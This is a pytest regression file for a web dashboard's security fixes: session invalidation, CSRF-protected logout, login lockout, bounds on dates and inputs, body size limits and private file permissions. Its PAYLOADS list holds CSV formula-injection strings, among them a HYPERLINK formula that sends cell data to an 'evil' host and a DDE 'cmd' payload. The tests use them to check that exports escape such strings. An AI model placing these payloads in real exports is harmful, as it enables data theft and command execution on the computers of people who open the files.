"""The defects the outside probe found ("Fix first" in issue 14), one test each.

Each of these failed on the code before the fix: sessions that survived log-out and password
changes, a GET log-out, no throttling, formula injection in CSVs, 500s from hand-edited dates
and cross-filters, an unbounded filter list, big anonymous bodies, the page shell under
/assets/, world-readable data files and leftover uploads.
"""

from __future__ import annotations

import json
import os
import re
import time
from datetime import date, timedelta

import polars as pl
import pytest
from click.testing import CliRunner
from sqlalchemy import select

from dashboard.accounts import create_user, get_workspace, remove_member
from dashboard.cli import cli
from dashboard.filters import MAX_DATE, MIN_DATE, FilterState
from dashboard.models import User
from tests.conftest import PASSWORD, load, payments_frame
from tests.integration.test_analytics_callbacks import panel_request


def _login(client, email="owner@acme.test", password=PASSWORD, remember=False):
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    data = {"email": email, "password": password, "csrf_token": token}
    if remember:
        data["remember"] = "1"
    return client.post("/login", data=data)


def _cookies(client) -> dict[str, str]:
    return {c.key: c.value for c in client._cookies.values()}


def _client_with(app, cookies: dict[str, str]):
    other = app.server.test_client()
    for name, value in cookies.items():
        other.set_cookie(name, value)
    return other


# -- sessions ------------------------------------------------------------------------------------
def test_fix001_logout_ends_copied_session_and_remember_me_cookies(app, client, auth, workspace):
    assert _login(client, remember=True).status_code == 302
    stolen = _cookies(client)
    assert "remember_token" in stolen and "session" in stolen
    auth.logout()
    assert client.get("/_dash-layout").status_code == 401
    # A copy of the cookies taken before log-out (a thief's) is worth nothing now ...
    assert _client_with(app, stolen).get("/_dash-layout").status_code == 401
    # ... and neither is the remember-me cookie on its own.
    assert (
        _client_with(app, {"remember_token": stolen["remember_token"]}).get("/_dash-layout").status_code
        == 401
    )


def test_fix002_password_change_ends_every_session(app, client, services, workspace):
    _login(client, remember=True)
    assert client.get("/_dash-layout").status_code == 200
    with services.db.session() as db:
        create_user(
            db, "owner@acme.test", "a brand new passphrase", workspace=get_workspace(db, "acme"), role="owner"
        )
    assert client.get("/_dash-layout").status_code == 401
    assert _login(app.server.test_client(), password=PASSWORD).status_code == 401
    assert _login(app.server.test_client(), password="a brand new passphrase").status_code == 302


def test_fix003_removing_a_member_ends_their_sessions(client, services, workspace):
    _login(client, "analyst@acme.test", remember=True)
    assert client.get("/_dash-layout").status_code == 200
    with services.db.session() as db:
        assert remove_member(db, get_workspace(db, "acme"), "analyst@acme.test")
    assert client.get("/_dash-layout").status_code == 401


def test_fix004_logout_is_post_with_csrf(client, auth, workspace):
    auth.login()
    page = client.get("/logout")
    assert page.status_code == 200 and 'method="post" action="/logout"' in page.get_data(as_text=True)
    assert client.get("/_dash-layout").status_code == 200  # GET /logout only asks
    assert client.post("/logout").status_code == 400  # no CSRF token: refused
    assert client.get("/_dash-layout").status_code == 200
    assert auth.logout().status_code == 302
    assert client.get("/_dash-layout").status_code == 401


def test_fix005_the_layout_carries_a_post_logout_form(client, auth, workspace):
    auth.login()
    layout = json.dumps(client.get("/_dash-layout").get_json())
    assert '"action": "/logout"' in layout and '"method": "POST"' in layout
    assert '"name": "csrf_token"' in layout


def test_fix006_session_fixation_a_planted_session_is_replaced_at_login(app, client, workspace):
    client.get("/login")
    planted = _cookies(client)["session"]
    _login(client)
    assert _cookies(client)["session"] != planted
    # The attacker's copy of the pre-login session is still anonymous.
    assert _client_with(app, {"session": planted}).get("/_dash-layout").status_code == 401


# -- throttling ----------------------------------------------------------------------------------
def test_fix007_account_lockout_after_five_failures_even_with_the_right_password(client, workspace):
    for _ in range(5):
        assert _login(client, password="wrong wrong wrong").status_code == 401
    locked = _login(client)
    assert locked.status_code == 429
    assert "Too many failed attempts" in locked.get_data(as_text=True)
    assert client.get("/_dash-layout").status_code == 401
    # Another account from the same address is not locked by this one's failures.
    assert _login(client, "analyst@acme.test").status_code == 302


def test_fix008_address_lockout_across_accounts(settings, services, workspace, monkeypatch):
    from app import create_app

    settings.login_limit_ip = "3 per 15 minutes"
    client = create_app(settings).server.test_client()
    for n in range(3):
        _login(client, f"ghost{n}@acme.test", "whatever whatever")
    assert _login(client, "owner@acme.test").status_code == 429


def test_fix009_lockout_is_shared_through_redis(tmp_path, services, workspace, settings):
    redis = pytest.importorskip("redis")
    url = "redis://127.0.0.1:6379/15"
    try:
        redis.Redis.from_url(url).flushdb()
    except redis.exceptions.ConnectionError:
        pytest.skip("no Redis on 127.0.0.1:6379")
    from app import create_app

    settings.redis_url = url
    first = create_app(settings).server.test_client()
    second = create_app(settings).server.test_client()  # another web process, same Redis
    for _ in range(5):
        _login(first, password="wrong wrong wrong")
    assert _login(second).status_code == 429
    redis.Redis.from_url(url).flushdb()


def test_fix010_failed_and_locked_logins_are_audited(client, services, workspace, other_workspace):
    from dashboard.audit import events

    for _ in range(6):
        _login(client, password="wrong wrong wrong")
    _login(client, "ghost@acme.test", "wrong wrong wrong")
    with services.db.session() as db:
        seen = [(e.actor, e.action) for e in events(db, workspace.id, limit=100)]
        other = [e.actor for e in events(db, other_workspace.id, limit=100)]
    # The owner sees the attack on their member's account; unknown emails and other
    # workspaces' owners see nothing of it.
    assert seen.count(("owner@acme.test", "login_failed")) == 5
    assert seen.count(("owner@acme.test", "login_locked")) == 1
    assert all(actor != "ghost@acme.test" for actor, _ in seen)
    assert "owner@acme.test" not in other


# -- CSV formula injection -----------------------------------------------------------------------
PAYLOADS = [
    '=HYPERLINK("http://evil/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "-2+3+cmd|x",
    "\t=1+1",
    "+1+1",
]


def test_fix011_csv_of_escapes_formulas_but_not_numbers():
    from callbacks._analytics import csv_of

    frame = pl.DataFrame({"campaign": PAYLOADS + ["-12.5", "Brand"], "value": [1.0] * (len(PAYLOADS) + 2)})
    lines = csv_of(frame).splitlines()[1:]
    import csv
    import io

    cells = [row[0] for row in csv.reader(io.StringIO("\n".join(lines)))]
    for payload, cell in zip(PAYLOADS, cells, strict=False):
        assert cell == "'" + payload
    assert cells[-2:] == ["-12.5", "Brand"]


def test_fix012_chart_csv_download_is_escaped_end_to_end(app, client, auth, services, workspace):
    load(
        services,
        workspace,
        "payments",
        payments_frame(
            [
                {
                    "id": "x1",
                    "created": f"{date.today() - timedelta(days=1)} 10:00",
                    "amount": "10.00",
                    "product": PAYLOADS[1],
                }
            ]
        ),
    )
    from tests.integration.test_analytics_callbacks import _store

    auth.login("analyst@acme.test")
    body = {
        "output": "pb-revenue-download.data",
        "outputs": {"id": "pb-revenue-download", "property": "data"},
        "inputs": [
            {
                "id": {"item": "by_product", "page": "revenue", "type": "pb-csv"},
                "property": "n_clicks",
                "value": 1,
            }
        ],
        "changedPropIds": ['{"item":"by_product","page":"revenue","type":"pb-csv"}.n_clicks'],
        "state": [
            {"id": "pb-filters", "property": "data", "value": _store()},
            {"id": "pb-revenue-page-filters", "property": "data", "value": {}},
            {"id": "pb-revenue-crossfilter", "property": "data", "value": None},
            {"id": "pb-revenue-drill", "property": "data", "value": None},
        ],
    }
    response = client.post("/_dash-update-component", json=body)
    content = response.get_json()["response"]["pb-revenue-download"]["data"]["content"]
    assert "'=cmd|' /C calc'!A0" in content or "\"'=cmd|' /C calc'!A0\"" in content
    assert "\n=cmd" not in content and ",=cmd" not in content


# -- hand-edited input ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    "query",
    [
        {"range": "custom", "from": "9999-01-01", "to": "9999-12-31", "compare": "previous_year"},
        {"range": "custom", "from": "0001-01-01", "to": "2026-01-01", "compare": "previous_period"},
    ],
)
def test_fix013_out_of_calendar_dates_fall_back_inside_the_bounds(query):
    state = FilterState.from_query(query, date.today())
    assert MIN_DATE <= state.start <= state.end <= MAX_DATE


@pytest.mark.parametrize(
    "store",
    [
        {
            "range": "custom",
            "start": "9999-01-01",
            "end": "9999-12-31",
            "compare": "previous_year",
            "grain": "day",
        },
        {
            "range": "custom",
            "start": "0001-01-01",
            "end": "0001-12-31",
            "compare": "previous_period",
            "grain": "week",
        },
    ],
)
@pytest.mark.parametrize("item", ["kpis", "trend"])
def test_fix014_forged_far_dates_never_500(app, client, auth, workspace, store, item):
    auth.login()
    response = client.post("/_dash-update-component", json=panel_request(app, "revenue", item, store=store))
    assert response.status_code in (200, 204), response.get_data(as_text=True)[:300]


def test_fix015_forged_crossfilter_key_of_another_page_is_ignored(app, client, auth, workspace):
    auth.login()
    body = panel_request(app, "revenue", "trend", crossfilter={"key": "campaign", "value": "x"})
    response = client.post("/_dash-update-component", json=body)
    assert response.status_code == 200
    assert "cannot be shown" not in response.get_data(as_text=True)


def test_fix016_cli_metric_far_date_is_a_clear_refusal(services, workspace):
    result = CliRunner().invoke(
        cli,
        [
            "metric",
            "net_revenue",
            "--workspace",
            "acme",
            "--from",
            "2026-01-01",
            "--to",
            "9999-12-31",
            "--json",
        ],
        obj=services,
    )
    assert result.exit_code == 2
    assert "to 9999-12-31 is out of range" in result.stderr
    assert "another process" not in result.stderr


# -- bodies, options, assets ---------------------------------------------------------------------
def test_fix017_anonymous_big_post_refused_from_its_length(client, workspace):
    response = client.post(
        "/_dash-update-component",
        data=b"{}",
        content_type="application/json",
        environ_overrides={"CONTENT_LENGTH": str(300 * 1024 * 1024)},
    )
    assert response.status_code == 413


def test_fix018_request_body_cap_is_configured(app, settings):
    assert app.server.config["MAX_CONTENT_LENGTH"] == settings.max_request_mb * 1024 * 1024 < 1024**3


def test_fix019_filter_options_are_bounded_and_searchable():
    from callbacks._analytics import MAX_OPTIONS, option_list

    values = [f"product {i:06d}" for i in range(50_000)] + ["x" * 400_000]
    first = option_list(values)
    assert len(first) == MAX_OPTIONS
    assert all(len(o["value"]) <= 200 for o in first)
    found = option_list(values, search="product 049999")
    assert [o["value"] for o in found] == ["product 049999"]
    kept = option_list(values, selected="product 040000")
    assert kept[-1]["value"] == "product 040000"


@pytest.mark.parametrize("path", ["/assets/", "/assets//x", "/assets/nope/../"])
def test_fix020_assets_paths_do_not_serve_the_page_shell(client, workspace, path):
    response = client.get(path)
    assert response.status_code in (302, 401, 404)
    assert "_dash-config" not in response.get_data(as_text=True)  # not the app's page shell


def test_fix021_real_assets_stay_public(client, workspace):
    assert client.get("/assets/pulseboard.css").status_code == 200


# -- files on disk -------------------------------------------------------------------------------
def test_fix022_data_files_and_dir_are_private(settings, app, services, workspace):
    app.server.extensions["pulseboard"].warehouse  # noqa: B018 - opens (creates) the warehouse file
    data = settings.data_path
    assert data.stat().st_mode & 0o777 == 0o700
    assert (data / "app.db").stat().st_mode & 0o777 == 0o600
    assert (data / "warehouse.duckdb").stat().st_mode & 0o777 == 0o600


def test_fix023_interrupted_uploads_are_swept_on_start(settings, services):
    from app import create_app
    from dashboard.hardening import STALE_UPLOAD_SECONDS

    root = settings.data_path / "uploads"
    stale, fresh = root / "upload-crashed", root / "upload-running"
    for folder in (stale, fresh):
        folder.mkdir(parents=True)
        (folder / "000-payments.csv").write_text("id,amount\n")
    old = time.time() - STALE_UPLOAD_SECONDS - 60
    os.utime(stale, (old, old))
    create_app(settings)
    assert not stale.exists()
    assert fresh.exists()


# -- passwords -----------------------------------------------------------------------------------
def test_fix024_old_scrypt_hashes_are_upgraded_to_argon2_at_login(client, services, workspace):
    from werkzeug.security import generate_password_hash

    with services.db.session() as db:
        user = db.scalar(select(User).where(User.email == "viewer@acme.test"))
        user.password_hash = generate_password_hash(PASSWORD)
    assert _login(client, "viewer@acme.test").status_code == 302
    with services.db.session() as db:
        assert db.scalar(select(User.password_hash).where(User.email == "viewer@acme.test")).startswith(
            "$argon2id$"
        )
